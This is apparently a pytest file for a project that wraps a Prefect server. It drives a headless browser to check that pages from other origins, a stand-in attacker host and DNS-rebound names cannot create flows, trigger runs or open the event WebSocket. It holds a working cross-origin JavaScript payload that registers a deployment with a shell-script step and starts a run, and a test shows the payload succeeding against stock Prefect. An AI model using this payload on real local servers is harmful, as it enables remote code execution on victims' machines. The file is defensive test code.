"""Pages of other sites, in a real browser, against the server that `make serve` runs.

The same attacks are shown to succeed on Prefect's server as it is by itself: what the tests of our
server find harmless is not harmless by a mistake of theirs.
"""

import os
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, Route, sync_playwright

from flows.server import free_port, serving
from tests.flows.test_browser import CHROMIUM, FLAGS, pytestmark  # noqa: F401

# A name of the attacker's, which the browser finds at this machine.
EVIL = "evil.example"
OTHER_FLAGS = [
    f"--host-resolver-rules=MAP {EVIL} 127.0.0.1",
    # Newer versions of this browser ask a person before a page may ask this machine; others do not.
    "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
]
DRIVE = """async ({api, socket, script}) => {
    const said = {};
    const post = async (path, body) => {
        // A blob without a type: a simple request, which the browser sends without asking first.
        const sent = new Blob([JSON.stringify(body)]);
        const answer = await fetch(api + path, {method: 'POST', body: sent});
        return await answer.json();
    };
    try {
        const flow = await post('/flows/', {name: 'taken-over'});
        const steps = [{'prefect.deployments.steps.run_shell_script': {script}}];
        const deployment = await post('/deployments/', {
            name: 'taken-over', flow_id: flow.id, entrypoint: 'none.py:none', path: '.',
            pull_steps: steps, work_pool_name: 'local', parameter_openapi_schema: {},
        });
        const run = await post(`/deployments/${deployment.id}/create_flow_run`, {});
        said.run = run.id;
    } catch (error) { said.error = String(error); }
    try {
        await fetch(api + '/flows/', {method: 'POST', mode: 'no-cors',
            body: new Blob([JSON.stringify({name: 'unseen'})])});
    } catch (error) {}
    said.socket = await new Promise(done => {
        const opened = new WebSocket(socket);
        opened.onopen = () => done('open');
        opened.onerror = () => done('refused');
    });
    return said;
}"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        started = playwright.chromium.launch(executable_path=CHROMIUM, args=[*FLAGS, *OTHER_FLAGS])
        yield started
        started.close()


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context()
    yield context.new_page()
    context.close()


@pytest.fixture(scope="module")
def ours(tmp_path_factory: pytest.TempPathFactory) -> Iterator[int]:
    """Run our server without a password, so that only its looking at origins protects it."""
    home, port = tmp_path_factory.mktemp("ours"), free_port()
    with pytest.MonkeyPatch.context() as environment:
        environment.setenv("PREFECT_HOME", str(home))
        with serving(home, port, {}):
            make_pool(port)
            yield port


@contextmanager
def prefects_own(home: Path) -> Iterator[int]:
    """Run Prefect's server as it is by itself."""
    port = free_port()
    environment = {**os.environ, "PREFECT_HOME": str(home), "PREFECT_UI_ENABLED": "0"}
    command = [sys.executable, "-m", "prefect", "server", "start", "--port", str(port)]
    with (home / "own.log").open("w") as log:
        server = subprocess.Popen(command, env=environment, stdout=log, stderr=log)
    try:
        deadline_s = time.monotonic() + 120
        while not answers(port):
            assert time.monotonic() < deadline_s, (home / "own.log").read_text()
            time.sleep(0.2)
        make_pool(port)
        yield port
    finally:
        server.terminate()
        server.wait(30)


def answers(port: int) -> bool:
    try:
        urllib.request.urlopen(f"http://127.0.0.1:{port}/api/health", timeout=5).close()
    except OSError:
        return False
    return True


def post(port: int, path: str, body: bytes) -> bytes:
    headers = {"Content-Type": "application/json"}
    request = urllib.request.Request(f"http://127.0.0.1:{port}/api/{path}", body, headers)
    with urllib.request.urlopen(request, timeout=30) as answer:
        content: bytes = answer.read()
    return content


def make_pool(port: int) -> None:
    post(port, "work_pools/", b'{"name": "local", "type": "process"}')


def attack(page: Page, page_address: str, api_host: str) -> dict[str, Any]:
    """Show the attacker's page at an address, and let it drive the server."""

    def answer(route: Route) -> None:
        route.fulfill(status=200, content_type="text/html", body="<title>A page</title>")

    page.route(page_address, answer)
    page.goto(page_address)
    said: dict[str, Any] = page.evaluate(
        DRIVE,
        {
            "api": f"http://{api_host}/api",
            "socket": f"ws://{api_host}/api/events/out",
            "script": "true",
        },
    )
    return said


def num_flows(port: int) -> int:
    return int(post(port, "flows/count", b"{}"))


def attacks(port: int) -> dict[str, tuple[str, str]]:
    """Name each attack's page and the host that it asks."""
    return {
        "another origin": (f"http://{EVIL}:{port + 1}/page", f"127.0.0.1:{port}"),
        "another port of this machine": (f"http://localhost:{port + 1}/page", f"localhost:{port}"),
        "a name pointed here later": (f"http://{EVIL}:{port}/page", f"{EVIL}:{port}"),
    }


KINDS = tuple(attacks(0))


@pytest.mark.parametrize("kind", KINDS)
def test_a_page_of_another_site_can_make_nothing_and_hear_nothing(
    ours: int, page: Page, kind: str
) -> None:
    said = attack(page, *attacks(ours)[kind])
    assert "run" not in said
    assert said["socket"] == "refused"
    assert num_flows(ours) == 0


def test_the_same_pages_take_over_prefects_server_as_it_is_by_itself(
    tmp_path: Path, browser: Browser
) -> None:
    with prefects_own(tmp_path) as port:
        for page_address, host in attacks(port).values():
            page = browser.new_page()
            said = attack(page, page_address, host)
            assert len(said.get("run", "")) == 36, said
            assert said["socket"] == "open"
            page.close()
        assert num_flows(port) == 2, "`taken-over` and `unseen`"


def test_no_foreign_page_shows_the_servers_pages_in_a_frame(ours: int, page: Page) -> None:
    outer = f"http://{EVIL}:{ours + 1}/page"
    frame = f'<iframe id="inner" src="http://127.0.0.1:{ours}/runs"></iframe>'
    page.route(outer, lambda route: route.fulfill(content_type="text/html", body=frame))
    page.goto(outer)
    page.wait_for_timeout(1000)
    inner = page.frames[1]
    assert "Prefect" not in inner.content()
    link = f'<a href="http://127.0.0.1:{ours}/runs">the runs</a>'
    page.unroute(outer)
    page.route(outer, lambda route: route.fulfill(content_type="text/html", body=link))
    page.goto(outer)
    page.get_by_role("link").click()
    page.wait_for_url(f"http://127.0.0.1:{ours}/**")
    assert "Prefect" in page.title()
